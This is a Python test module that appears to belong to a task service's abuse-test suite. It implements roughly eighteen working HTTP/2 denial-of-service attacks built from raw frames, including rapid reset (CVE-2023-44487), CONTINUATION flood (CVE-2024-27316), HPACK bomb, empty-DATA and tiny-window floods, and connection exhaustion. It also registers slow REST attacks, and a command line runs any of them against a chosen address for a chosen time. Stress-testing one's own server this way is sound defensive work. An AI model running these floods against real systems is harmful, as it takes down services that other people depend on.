"""Attacks by raw HTTP/2 frames, and those on REST, for as long as they are told; each is one function.

python -m tests.abuse.attacks NAME ADDRESS SECONDS
"""

import itertools
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial

from taskwell.v1 import tasks_pb2

from tests.abuse import rest_attacks
from tests.abuse.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET_TASK,
    HEADERS,
    LIST_TASKS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Client,
    field_block,
    frame,
    message,
    request_fields,
    settings,
)

Chunk = Callable[[Client], bytes]
_MAX_CONNECTS = 2000
_CALL = message(tasks_pb2.GetTaskRequest(id="01890000-0000-7000-8000-000000000000").SerializeToString())
_PAGE = message(tasks_pb2.ListTasksRequest(page_size=1000).SerializeToString())


class _Flood:
    """A connection that sends chunk after chunk, and connects again when the server has closed it."""

    def __init__(self, address: str, chunk: Chunk, opening: bytes, *, reads: bool, limit: int | None) -> None:
        host, _, port = address.rpartition(":")
        self._address = host, int(port)
        self._chunk, self._opening, self._reads, self._limit = chunk, opening, reads, limit
        self.connects = self.sent = 0
        self._connect()

    def _connect(self) -> None:
        self.connects += 1
        self.socket = socket.create_connection(self._address, timeout=10)
        self.socket.setblocking(False)
        self._client = Client(self.socket)
        self._output = bytearray(self._opening)
        self._chunks = 0

    def step(self) -> None:
        """Send and read what can be sent and read without waiting."""
        try:
            if self._reads:
                with suppress(BlockingIOError):
                    if not self.socket.recv(2**18):
                        raise ConnectionResetError
            if not self._output and (self._limit is None or self._chunks < self._limit):
                self._output += self._chunk(self._client)
                self._chunks += 1
            if self._output:
                with suppress(BlockingIOError):
                    count = self.socket.send(self._output)
                    self.sent += count
                    del self._output[:count]
        except OSError:
            self.socket.close()
            if self.connects < _MAX_CONNECTS:
                self._connect()


def _flood(
    address: str,
    seconds: float,
    chunk: Chunk,
    *,
    connections: int = 4,
    opening: bytes = PREFACE + settings() + frame(SETTINGS, ACK, 0),
    reads: bool = True,
    limit: int | None = None,
) -> None:
    """Send chunks on some connections, at most `limit` on each; without an end of the time it would not end."""
    floods = [_Flood(address, chunk, opening, reads=reads, limit=limit) for _ in range(connections)]
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        for flood in floods:
            flood.step()
        with suppress(OSError, ValueError):
            select.select([each.socket for each in floods], [each.socket for each in floods], [], 0.01)
        time.sleep(0.0005)  # leaves CPU to the server and to the honest client
    print(f"{sum(each.sent for each in floods) / 2**20:.0f} MiB, {sum(each.connects for each in floods)} connections")
    for flood in floods:
        flood.socket.close()


def _repeated(data: bytes, times: int) -> Chunk:
    chunk = data * times
    return lambda _client: chunk


def rapid_reset(address: str, seconds: float) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""

    def chunk(client: Client) -> bytes:
        opened = (client.headers(GET_TASK, end_stream=False) for _ in range(50))
        return b"".join(opening + frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8))) for stream, opening in opened)

    _flood(address, seconds, chunk)


def server_resets(address: str, seconds: float) -> None:
    """Make the server reset streams: DATA behind their end (CVE-2025-8671)."""

    def chunk(client: Client) -> bytes:
        opened = (client.headers(GET_TASK) for _ in range(50))
        return b"".join(
            opening + frame(DATA, END_STREAM, stream, _CALL) + frame(DATA, END_STREAM, stream, b"more")
            for stream, opening in opened
        )

    _flood(address, seconds, chunk)


def hpack_bomb(address: str, seconds: float) -> None:
    """Send 100 times 16 MiB of metadata per connection, and never acknowledge the server's settings."""
    opening = PREFACE + settings()
    _flood(address, seconds, lambda client: client.bomb(GET_TASK, 2**24 - 2**16), opening=opening, limit=100)


def continuation_flood(address: str, seconds: float) -> None:
    """Headers that never end (CVE-2024-27316)."""
    state: dict[int, int] = {}

    def chunk(client: Client) -> bytes:
        field = field_block({"x-more": "a" * 1000})
        if id(client) not in state:
            state[id(client)], opening = client.headers(GET_TASK)
            return opening[:4] + b"\0" + opening[5:]
        return frame(CONTINUATION, 0, state[id(client)], field) * 10

    _flood(address, seconds, chunk)


def ping_flood(address: str, seconds: float) -> None:
    """Pings that ask for an answer each."""
    _flood(address, seconds, _repeated(frame(PING, 0, 0, bytes(8)), 100))


def settings_flood(address: str, seconds: float) -> None:
    """Settings that ask for an acknowledgement each."""
    _flood(address, seconds, _repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)), 100))


def unread_settings_flood(address: str, seconds: float) -> None:
    """The same from a client that reads none of the acknowledgements."""
    _flood(address, seconds, _repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)), 100), reads=False)


def window_update_flood(address: str, seconds: float) -> None:
    """Window updates of one byte, of the connection and of a stream that does not exist any more."""
    update = frame(WINDOW_UPDATE, 0, 0, bytes((0, 0, 0, 1)))
    _flood(address, seconds, _repeated(update, 200))


def priority_flood(address: str, seconds: float) -> None:
    """PRIORITY of many idle streams."""

    def chunk(_client: Client) -> bytes:
        streams = (random.randrange(1, 2**30) * 2 + 1 for _ in range(100))
        return b"".join(frame(PRIORITY, 0, stream, bytes((0, 0, 0, 0, 16))) for stream in streams)

    _flood(address, seconds, chunk)


def empty_data(address: str, seconds: float) -> None:
    """Empty DATA frames that do not end their stream (CVE-2019-9518)."""
    streams: dict[int, int] = {}

    def chunk(client: Client) -> bytes:
        opening = b""
        if id(client) not in streams:
            streams[id(client)], opening = client.headers(GET_TASK)
        return opening + frame(DATA, 0, streams[id(client)]) * 100

    _flood(address, seconds, chunk)


def empty_headers(address: str, seconds: float) -> None:
    """Calls with a thousand headers without a name and a value (CVE-2019-9516)."""

    def chunk(client: Client) -> bytes:
        stream, _ = client.headers(GET_TASK)
        block = field_block(request_fields(GET_TASK, "mallory")) + b"\0\0\0" * 1000
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, _CALL)

    _flood(address, seconds, chunk)


def unread_responses(address: str, seconds: float) -> None:
    """Large pages for a client with a window of 0, who reads nothing."""

    def chunk(client: Client) -> bytes:
        stream, opening = client.headers(LIST_TASKS, "honest-pages")
        return opening + frame(DATA, END_STREAM, stream, _PAGE)

    opening = PREFACE + settings(initial_window_size=0) + frame(SETTINGS, ACK, 0)
    _flood(address, seconds, chunk, opening=opening, reads=False, limit=100)


def tiny_windows(address: str, seconds: float) -> None:
    """Pages that are taken byte by byte (CVE-2019-9511)."""

    def chunk(client: Client) -> bytes:
        stream, opening = client.headers(LIST_TASKS, "honest-pages")
        update = frame(WINDOW_UPDATE, 0, stream, bytes((0, 0, 0, 1)))
        return opening + frame(DATA, END_STREAM, stream, _PAGE) + update * 100

    opening = PREFACE + settings(initial_window_size=1) + frame(SETTINGS, ACK, 0)
    _flood(address, seconds, chunk, opening=opening)


def calls_without_message(address: str, seconds: float) -> None:
    """Headers of calls, and nothing more."""
    _flood(address, seconds, lambda client: client.headers(GET_TASK)[1], connections=50, limit=100)


def idle_connections(address: str, seconds: float) -> None:
    """1,000 connections that do nothing."""
    _flood(address, seconds, lambda _client: b"", connections=1000, limit=0)


def half_open_handshakes(address: str, seconds: float) -> None:
    """1,000 connections that send the beginning of a TLS handshake, or of the preface."""
    _flood(address, seconds, lambda _client: b"", connections=1000, opening=b"\x16\x03\x01\x02\x00\x01", limit=0)


def garbage(address: str, seconds: float) -> None:
    """Random bytes behind a correct opening."""
    _flood(address, seconds, lambda _client: random.randbytes(1000))


def tokens(address: str, seconds: float) -> None:
    """Calls with a different token of 8 KiB each."""

    def chunk(client: Client) -> bytes:
        stream, _ = client.headers(GET_TASK)
        token = f"Bearer eyJhbGciOiJIUzI1NiJ9.{random.randbytes(3900).hex()}.AAAA"
        block = field_block(request_fields(GET_TASK, "mallory") | {"authorization": token})
        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, _CALL)

    _flood(address, seconds, chunk)


def rest_heavy(address: str, seconds: float) -> None:
    """The REST requests that cost most, one after the other."""
    host, port = address.rsplit(":", 1)
    ends, sent = time.monotonic() + seconds, 0
    for request in itertools.cycle(rest_attacks.HEAVY.values()):
        if time.monotonic() > ends:
            break
        rest_attacks.exchange(host, int(port), request)
        sent += 1
    print(f"{sent} requests")


def _rest(attack: Callable[[str, int, int, float], int], count: int) -> Callable[[str, float], None]:
    def run(address: str, seconds: float) -> None:
        host, port = address.rsplit(":", 1)
        print(f"{count} connections, of which {attack(host, int(port), count, seconds)} were closed")

    run.__doc__ = getattr(attack, "func", attack).__doc__
    return run


REST: dict[str, Callable[[str, float], None]] = {
    "rest-heavy": rest_heavy,
    "rest-slow-heads": _rest(rest_attacks.slow_heads, 500),
    "rest-slow-bodies": _rest(rest_attacks.slow_bodies, 500),
    "rest-slow-readers": _rest(partial(rest_attacks.slow_readers, user="honest-pages"), 400),
    "rest-pipelines": _rest(rest_attacks.pipelines, 20),
    "rest-endless-bodies": _rest(rest_attacks.endless_bodies, 20),
}
"""Attacks on REST: they take its address."""

ATTACKS: dict[str, Callable[[str, float], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        *(rapid_reset, server_resets, hpack_bomb, continuation_flood, ping_flood, settings_flood),
        *(unread_settings_flood, window_update_flood, priority_flood, empty_data, empty_headers, unread_responses),
        *(tiny_windows, calls_without_message, idle_connections, half_open_handshakes, garbage, tokens),
    )
} | REST


def titles() -> Iterator[tuple[str, str]]:
    """Each attack with the first line of its description."""
    for name, attack in ATTACKS.items():
        yield name, (attack.__doc__ or "").rstrip(".")


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3]))
